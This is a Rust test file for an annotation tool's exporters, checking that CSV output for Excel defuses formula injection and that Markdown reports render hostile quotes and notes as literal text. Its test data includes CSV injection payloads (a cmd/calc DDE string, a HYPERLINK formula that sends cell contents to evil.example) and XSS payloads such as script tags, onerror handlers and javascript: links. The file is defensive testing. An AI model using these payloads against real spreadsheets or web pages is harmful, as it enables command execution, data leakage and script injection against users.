//! Exports cannot be turned against their reader: CSV for Excel never carries a
//! formula (OWASP "CSV Injection"), and a Markdown report renders quotes and notes
//! as exactly the text written — checked by rendering it with pulldown-cmark, a
//! CommonMark renderer, with the GitHub extensions on.
#![allow(clippy::unwrap_used)] // test helpers fail loudly on purpose

mod common;

use glosa::export::{ExportSource, excerpts, write_csv, write_markdown};
use glosa::model::{Annotation, AnnotationId, Document, Segment, Tag, TagId, TagSet, Timestamp};
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag as MdTag, TagEnd};

const INFORME: &str = "Informe del Secretario General\n\n\
    La Agenda de Túnez reconoce la \"cooperación mejorada\", que permita a los gobiernos cumplir su papel.\n\n\
    Los debates sobre la cooperación han proseguido en diversos foros.\n";

fn doc() -> Document {
    Document::parse(INFORME.as_bytes().to_vec(), "informe.txt").unwrap()
}

fn annotation(segments: Vec<Segment>, note: &str, author: &str) -> Annotation {
    let created: Timestamp = "2026-11-29T10:39:54Z".parse().unwrap();
    Annotation {
        id: AnnotationId::from_parts(u64::try_from(created.as_millisecond()).unwrap(), 1),
        segments,
        tags: [TagId::new("civil-society").unwrap()].into(),
        note: note.to_owned(),
        author: author.to_owned(),
        created,
        modified: created,
    }
}

/// An orphaned segment (the document lacks its paragraph, its neighbours and
/// anything like its context) quoting `quote` as stored: exported as stored.
fn stored_quote(quote: &str) -> Segment {
    let mut segment = common::segment_on(&doc(), "diversos foros");
    segment.paragraph = glosa::model::ParagraphId::new("p-000000000000");
    segment.neighbors.before = Some(glosa::model::ParagraphId::new("p-ffffffffffff"));
    segment.neighbors.after = Some(glosa::model::ParagraphId::new("p-eeeeeeeeeeee"));
    "ZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZ".clone_into(&mut segment.prefix);
    "QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ".clone_into(&mut segment.suffix);
    quote.clone_into(&mut segment.quote);
    segment
}

fn csv(title: &str, tags: &TagSet, annotations: &[Annotation], excel: bool) -> String {
    let d = doc();
    let sources = [ExportSource::resolve(title, "informe.txt", Some(&d), tags, annotations)];
    let mut out = Vec::new();
    write_csv(&mut out, &excerpts(&sources, &[]), excel).unwrap();
    String::from_utf8(out).unwrap()
}

fn markdown(title: &str, tags: &TagSet, annotations: &[Annotation]) -> String {
    let d = doc();
    let sources = [ExportSource::resolve(title, "informe.txt", Some(&d), tags, annotations)];
    let mut out = Vec::new();
    write_markdown(&mut out, &excerpts(&sources, &[])).unwrap();
    String::from_utf8(out).unwrap()
}

/// CommonMark with the GitHub extensions (tables, strikethrough, task lists,
/// footnotes), as report viewers render it.
fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS | Options::ENABLE_FOOTNOTES
}

fn to_html(markdown: &str) -> String {
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, Parser::new_ext(markdown, options()));
    html
}

// --- CSV ---------------------------------------------------------------------------------

#[test]
fn csv_for_excel_neutralises_every_formula_and_plain_csv_stays_verbatim() {
    let d = doc();
    let mut tags = TagSet::wsis_default();
    let mut civil = tags.get(&TagId::new("civil-society").unwrap()).unwrap().clone();
    civil.label = "-2+3".to_owned();
    tags.replace(civil);
    let annotations = [annotation(
        vec![common::segment_on(&d, "diversos foros")],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    )];
    let excel = csv("+cmd|' /C calc'!A0", &tags, &annotations, true);
    let record = excel.lines().nth(1).unwrap();
    let paragraph = &d.paragraphs()[2].id;
    assert_eq!(
        record,
        format!(
            "\"'+cmd|' /C calc'!A0\",\"informe.txt\",\"{paragraph}\",\"¶3\",\"civil-society\",\"'-2+3\",\"diversos foros\",\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Ver\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",\
             \"2026-11-29T10:39:54Z\",\"anchored\",\"01M8KE7M4G0000000000000001\""
        )
    );
    let plain = csv("+cmd|' /C calc'!A0", &tags, &annotations, false);
    assert!(plain.contains(",\"=HYPERLINK(") && plain.starts_with("document,") && plain.contains("\r\n+cmd|"));
    // Every trigger of OWASP's list, and the full-width forms.
    for trigger in ["=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠"] {
        let annotations = [annotation(vec![stored_quote(&format!("{trigger}1+1"))], "", "")];
        let excel = csv("Informe", &tags, &annotations, true);
        let mut reader = ::csv::Reader::from_reader(excel.trim_start_matches('\u{feff}').as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[6], format!("'{trigger}1+1"), "{trigger:?}");
    }
}

#[test]
fn a_semicolon_in_a_value_cannot_start_a_new_cell_in_excel() {
    // Where Excel's list separator is `;`, an unquoted `a;=1+1` would be two
    // cells, the second a formula; every field is quoted, so it stays one.
    let annotations = [annotation(vec![stored_quote("cooperación;=1+1;@SUM(A1)")], "", "")];
    let excel = csv("Informe", &TagSet::wsis_default(), &annotations, true);
    assert!(excel.contains("\"cooperación;=1+1;@SUM(A1)\""), "{excel}");
}

// --- Markdown -----------------------------------------------------------------------------

const HOSTILE: [&str; 14] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[pulse aquí](javascript:alert(1))",
    "![](http://evil.example/pixel.png)",
    "<https://evil.example>",
    "&lt;script&gt; &#60;img&#62;",
    "# Un título falso",
    "> una cita\r# y un título\r<script>alert(2)</script>",
    "<div onmouseover=alert(3)>\nhola\n</div>",
    "| a | b |\n|---|---|\n| c | d |",
    "`código` y **negrita** y ~~tachado~~ y _cursiva_",
    "1. lista\n- otra\n+ más\n* y más\n***",
    "texto\n===\n---",
    "<!-- comentario -->[^1]\n\n[^1]: nota",
];

#[test]
fn no_script_image_link_or_block_markup_survives_a_commonmark_renderer() {
    let d = doc();
    let mut tags = TagSet::wsis_default();
    tags.insert(
        0,
        Tag {
            id: TagId::new("evil").unwrap(),
            label: "<img src=x onerror=alert(4)> *Gobiernos*".to_owned(),
            description: String::new(),
            color: glosa::model::Color { r: 0, g: 0, b: 0 },
            shortcut: None,
        },
    );
    let mut annotations: Vec<Annotation> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, text)| {
            let mut a = annotation(vec![stored_quote(text)], text, "<script>alert(5)</script>");
            a.id = AnnotationId::from_parts(1_780_000_000_000, i as u128 + 1);
            a
        })
        .collect();
    annotations[0].segments = vec![common::segment_on(&d, "diversos foros")];
    annotations[0].tags.insert(TagId::new("evil").unwrap());
    let md = markdown("<script>alert(6)</script> *Informe*", &tags, &annotations);
    let html = to_html(&md);
    for forbidden in [
        "<script", "<img", "<a ", "<div", "<!--", "<code", "<strong", "<del", "<table", "<ul", "<ol", "<hr", "<h3",
        "<sup",
    ] {
        assert!(!html.contains(forbidden), "{forbidden} in:\n{html}\n\nfrom:\n{md}");
    }
    // The only emphasis is the document title of each attribution line.
    assert_eq!(html.matches("<em>").count(), annotations.len() + 1, "{html}");
    assert_eq!(html.matches("<em>&lt;script&gt;alert(6)&lt;/script&gt; *Informe*</em>").count(), annotations.len() + 1);
    assert_eq!(html.matches("<h1>").count(), 1);
    assert_eq!(html.matches("<h2>").count(), 2, "the two tag sections only");
    // Every hostile text is shown literally, entities included.
    for text in
        ["&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt; &amp;#60;img&amp;#62;", "# Un título falso"]
    {
        assert!(html.contains(text), "{text} in:\n{html}");
    }
}

/// The text pulldown-cmark renders for the block quote (one entry per paragraph)
/// and for the note (paragraphs after the attribution line, hard breaks as `\n`)
/// of a single-excerpt report. Panics on any markup inside them.
fn rendered_quote_and_note(markdown: &str) -> (Vec<String>, Vec<String>) {
    let (mut quote, mut note) = (Vec::new(), Vec::new());
    let (mut in_quote, mut after_attribution) = (false, false);
    let mut current: Option<String> = None;
    for event in Parser::new_ext(markdown, options()) {
        let watched = in_quote || after_attribution;
        match event {
            Event::Start(MdTag::BlockQuote(_)) if !watched => in_quote = true,
            Event::End(TagEnd::BlockQuote(_)) => in_quote = false,
            Event::Start(MdTag::Paragraph) => current = Some(String::new()),
            Event::End(TagEnd::Paragraph) => {
                let text = current.take().unwrap_or_default();
                if in_quote {
                    quote.push(text);
                } else if after_attribution {
                    note.push(text);
                } else if text.starts_with('—') {
                    after_attribution = true;
                }
            }
            Event::Text(t) => {
                if let Some(current) = current.as_mut() {
                    current.push_str(&t);
                }
            }
            Event::HardBreak if watched => current.get_or_insert_with(String::new).push('\n'),
            Event::SoftBreak if watched => current.get_or_insert_with(String::new).push(' '),
            other if watched => panic!("markup came out of the text: {other:?}\n{markdown}"),
            _ => {}
        }
    }
    (quote, note)
}

/// What a quote or note should render as: its lines (split at LF, CRLF or CR)
/// trimmed, blank lines separating paragraphs, lines within one joined by `\n`.
fn expected_paragraphs(text: &str) -> Vec<String> {
    let normalized = text.replace("\r\n", "\n").replace('\r', "\n");
    let mut paragraphs = Vec::new();
    let mut current: Vec<&str> = Vec::new();
    for line in normalized.split('\n').map(str::trim) {
        if line.is_empty() {
            if !current.is_empty() {
                paragraphs.push(current.join("\n"));
                current.clear();
            }
        } else {
            current.push(line);
        }
    }
    if !current.is_empty() {
        paragraphs.push(current.join("\n"));
    }
    paragraphs
}

#[test]
fn hostile_quotes_and_notes_render_as_exactly_their_text() {
    for text in HOSTILE {
        let annotations = [annotation(vec![stored_quote(text)], text, "Ana")];
        let md = markdown("Informe", &TagSet::wsis_default(), &annotations);
        let (quote, note) = rendered_quote_and_note(&md);
        let lines: Vec<String> =
            expected_paragraphs(text).iter().flat_map(|p| p.split('\n')).map(str::to_owned).collect();
        assert_eq!(quote, lines, "quote {text:?}\n{md}");
        assert_eq!(note, expected_paragraphs(text), "note {text:?}\n{md}");
    }
}

fn markdown_heavy_text() -> impl Strategy<Value = String> {
    let tokens = prop::sample::select(vec![
        "a",
        "é",
        "中",
        " ",
        "  ",
        "\t",
        "\n",
        "\r",
        "\r\n",
        "\n\n",
        "\\",
        "`",
        "*",
        "_",
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "&",
        "&lt;",
        "&#60;",
        "#",
        "-",
        "+",
        "=",
        "~",
        "|",
        ":",
        "1.",
        "2)",
        "<script>",
        "</div>",
        "<!--",
        "javascript:",
        "http://x.example",
        "---",
        "===",
        "```",
        "~~~",
        "[^1]",
        "$",
        "\"",
        "'",
        ".",
    ]);
    prop::collection::vec(tokens, 0..40).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_quote_and_note_render_as_exactly_their_text(text in markdown_heavy_text()) {
        let annotations = [annotation(vec![stored_quote(&text)], &text, "Ana")];
        let md = markdown("Informe", &TagSet::wsis_default(), &annotations);
        let (quote, note) = rendered_quote_and_note(&md);
        let lines: Vec<String> =
            expected_paragraphs(&text).iter().flat_map(|p| p.split('\n')).map(str::to_owned).collect();
        prop_assert_eq!(quote, lines, "quote {:?}\n{}", text, md);
        prop_assert_eq!(note, expected_paragraphs(&text), "note {:?}\n{}", text, md);
    }
}
